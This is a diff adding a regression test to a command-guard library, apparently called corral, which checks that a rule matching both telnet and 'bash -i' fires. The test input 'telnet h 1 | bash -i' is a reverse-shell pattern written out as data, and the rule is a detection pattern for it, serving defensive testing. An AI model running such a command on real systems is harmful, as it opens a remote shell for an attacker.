@@ -81,3 +81,14 @@ def test_missing_examples_is_an_error(tmp_path: Path) -> None:
     body = RULE.format(id="CR-TST-001", when="{kind: [exec]}").replace('      not_match: ["ls"]\n', "")
     with pytest.raises(SourceError, match="not_match"):
         load(tmp_path, body)
+
+
+def test_all_of_two_programs_is_indexed_under_either(tmp_path: Path) -> None:
+    """A rule needing two different programs must still be tried (regression: index intersection)."""
+    from corral import Guard
+
+    when = "{all: [{command: {program: [telnet]}}, {command: {program: [bash], option: [-i]}}]}"
+    folder = library(tmp_path, RULE.format(id="CR-TST-002", when=when))
+    rules = load_rules(folder, files=["r0.yaml"])
+    decision = Guard("permissive", rules=rules).decide({"kind": "exec", "command": "telnet h 1 | bash -i"})
+    assert "CR-TST-002" in {r.id for r in decision.rules}
